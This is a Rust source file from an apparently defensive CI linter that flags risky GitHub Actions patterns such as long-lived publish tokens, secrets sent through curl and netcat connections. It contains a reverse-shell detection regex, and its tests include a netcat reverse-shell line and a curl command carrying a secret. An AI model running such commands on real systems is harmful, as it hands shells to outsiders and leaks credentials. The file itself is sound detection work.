//! How a workflow publishes, what it installs by the way, and what it does with its tokens.

use std::sync::LazyLock;

use domain::Severity;
use regex::Regex;

use super::super::report::Report;
use super::super::yaml::Yaml;
use super::rule;
use super::workflow::{Step, Workflow};
use crate::rules::Rule;

pub(super) const RULES: &[&Rule] = &[&TRUSTED, &APP_TOKEN, &ADHOC, &CURL, &NETCAT, &SUPERFLUOUS];

static TRUSTED: Rule = Rule {
    cwe: 522,
    hazard: "ci.trusted-publishing",
    remediation: "Let the registry trust the workflow itself (OpenID Connect), so that there is no token to lose.",
    references: &[
        "https://repos.openssf.org/trusted-publishers-for-all-package-repositories",
        "https://docs.github.com/en/actions/how-tos/secure-your-work/security-harden-deployments/oidc-in-pypi",
    ],
    aliases: &["use-trusted-publishing"],
    ..rule("infrastructure.github.trusted-publishing", "Release with a token that lasts", Severity::Info)
};
static APP_TOKEN: Rule = Rule {
    cwe: 269,
    hazard: "ci.github-app",
    remediation: "Name the repositories and the permissions that the token is for, and let it be revoked at the end.",
    references: &["https://github.com/actions/create-github-app-token#inputs"],
    aliases: &["github-app"],
    ..rule("infrastructure.github.app-token", "Token of an app for more than is needed", Severity::Low)
};
static ADHOC: Rule = Rule {
    cwe: 829,
    hazard: "ci.adhoc-packages",
    remediation: "Install from a lock file of the repository.",
    references: &["https://github.com/npm/cli/blob/latest/docs/lib/content/commands/npm-ci.md"],
    aliases: &["adhoc-packages"],
    ..rule("infrastructure.github.adhoc-package", "Package installed past the lock file", Severity::Info)
};
static CURL: Rule = Rule {
    cwe: 522,
    hazard: "ci.curl-with-secret",
    remediation: "Check where the secret is sent, and pass it by a variable or a file, not in the command.",
    aliases: &["CKV_GHA_3"],
    ..rule("infrastructure.github.curl-with-secret", "Secret sent by curl", Severity::Low)
};
static NETCAT: Rule = Rule {
    cwe: 506,
    hazard: "ci.reverse-shell",
    remediation: "Remove it: nothing in a build talks to an address by netcat.",
    aliases: &["CKV_GHA_4"],
    ..rule("infrastructure.github.netcat", "Connection to an address by netcat", Severity::Medium)
};
static SUPERFLUOUS: Rule = Rule {
    cwe: 1104,
    hazard: "ci.superfluous-action",
    remediation: "Use gh, or the tool itself: it is on GitHub's runners.",
    references: &["https://github.com/actions/runner-images"],
    aliases: &["superfluous-actions"],
    ..rule("infrastructure.github.superfluous-action", "Action for what the runner can do itself", Severity::Info)
};

static NETCAT_CALL: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"\b(?:nc|ncat|netcat)\s+(?:-\S+\s+)*(?:\d{1,3}\.){3}\d{1,3}\b").expect("the pattern is tested")
});
static PACKAGE: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?m)^\s*(?:sudo\s+)?(?:(?:npm|pnpm)\s+(?:install|i|add)\s+(?:-\S+\s+)*[@\w]|yarn\s+(?:global\s+)?add\s+|gem\s+install\s+(?:-\S+\s+)*\w|bundle\s+add\s+)")
        .expect("the pattern is tested")
});
static PUBLISH: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?m)^\s*(?:[\w./-]+\s+-m\s+|uvx\s+|pipx\s+run\s+|uv\s+run\s+|bundle\s+exec\s+)?(?:cargo\s+(?:\+\S+\s+)?publish|twine\s+upload|uv\s+publish|poetry\s+publish|hatch\s+publish|pdm\s+publish|gem\s+push|npm\s+publish|yarn\s+npm\s+publish|pnpm\s+publish|dotnet\s+nuget\s+push)\b")
        .expect("the pattern is tested")
});

/// Actions that do what a program of the runner does.
const SUPERFLUOUS_ACTIONS: &[&str] = &[
    "softprops/action-gh-release",
    "ncipollo/release-action",
    "elgohr/Github-Release-Action",
    "svenstaro/upload-release-action",
    "dacbd/create-issue-action",
    "actions-ecosystem/action-add-labels",
    "actions-ecosystem/action-remove-labels",
    "sergeysova/jq-action",
    "addnab/docker-run-action",
];

pub(super) fn check(report: &mut Report<'_, '_>, workflow: &Workflow<'_>, step: &Step<'_>) {
    if let Some((node, _)) = step.uses() {
        action(report, step, node);
    }
    let Some(run) = step.run() else { return };
    let key = step.node.entry("run").map_or(run, |(key, _)| key);
    let text = run.text().unwrap_or("");
    if text.lines().any(|line| line.contains("curl") && line.contains("secrets.")) {
        report.at(&CURL, key, "the secret leaves the runner, and is seen by all who see its processes");
    }
    if NETCAT_CALL.is_match(text) {
        report.at(&NETCAT, key, "this is how a shell is handed to somebody outside");
    }
    if PACKAGE.is_match(text) {
        report.at(&ADHOC, key, "no lock file says what is installed with the package");
    }
    // A token that the workflow itself asks the registry for is not kept anywhere.
    let token = |node: Yaml<'_>| {
        node.get("env").is_some_and(|env| {
            env.entries().any(|(_, value)| value.text().is_some_and(|text| text.contains("secrets.")))
        })
    };
    let kept = text.contains("secrets.")
        || token(step.node)
        || step.job.is_some_and(|job| token(job.node))
        || token(workflow.root);
    let trial = text.contains("--dry-run");
    if kept && !trial && PUBLISH.is_match(text) {
        report.at(&TRUSTED, key, "whoever gets hold of the token can publish in this name");
    }
}

fn action(report: &mut Report<'_, '_>, step: &Step<'_>, node: Yaml<'_>) {
    if step.is_action(&["pypa/gh-action-pypi-publish"]) && step.input("password").is_some()
        || step.is_action(&["rubygems/release-gem"])
            && step.input("setup-trusted-publisher").is_some_and(Yaml::is_false)
        || step.is_action(&["rubygems/configure-rubygems-credentials"]) && step.input("api-token").is_some()
    {
        report.at(&TRUSTED, node, "whoever gets hold of the token can publish in this name");
    }
    if step.is_action(&["actions/create-github-app-token"]) {
        let owner = step.input("owner").is_some() && step.input("repositories").is_none();
        let with = step.node.get("with");
        let scoped = with.is_some_and(|with| {
            with.entries().any(|(key, _)| key.text().is_some_and(|key| key.starts_with("permission-")))
        });
        let kept = step.input("skip-token-revoke").is_some_and(|value| value.is_true());
        if owner || kept || with.is_some() && !scoped {
            report.at(&APP_TOKEN, node, "the token reaches further, or lasts longer, than this job");
        }
    }
    if step.is_action(SUPERFLUOUS_ACTIONS) {
        report.at(&SUPERFLUOUS, node, "one more owner to trust, for what a program of the runner does");
    }
}

#[cfg(test)]
mod tests {
    use super::super::tests::{check, steps};

    #[track_caller]
    fn one(id: &str, bad: &[&str], good: &[&str]) {
        for step in bad {
            check(id, &steps("push", step), &[6]);
        }
        for step in good {
            check(id, &steps("push", step), &[]);
        }
    }

    #[test]
    fn tokens_that_last_and_reach_far_are_found() {
        one(
            "trusted-publishing",
            &[
                "- run: cargo publish --token ${{ secrets.A }}",
                "- uses: pypa/gh-action-pypi-publish@v1\n  with: {password: a}",
                "- run: npm publish\n  env: {NODE_AUTH_TOKEN: \"${{ secrets.A }}\"}",
            ],
            &["- run: cargo publish", "- uses: pypa/gh-action-pypi-publish@v1"],
        );
        one(
            "app-token",
            &[
                "- uses: actions/create-github-app-token@v2\n  with: {app-id: 1, owner: a}",
                "- uses: actions/create-github-app-token@v2\n  with: {app-id: 1, permission-contents: read, skip-token-revoke: true}",
            ],
            &["- uses: actions/create-github-app-token@v2\n  with: {app-id: 1, permission-contents: read}"],
        );
    }

    #[test]
    fn programs_that_do_not_belong_are_found() {
        one(
            "adhoc-package",
            &["- run: npm install -g a", "- run: gem install a"],
            &["- run: npm ci", "- run: npm install", "- run: bundle install"],
        );
        one("curl-with-secret", &["- run: curl -H \"${{ secrets.A }}\" b"], &["- run: curl b"]);
        one("netcat", &["- run: nc 10.0.0.1 80 -e sh"], &["- run: nc -z localhost 80"]);
        one("superfluous-action", &["- uses: softprops/action-gh-release@v2"], &["- uses: actions/checkout@v4"]);
    }
}
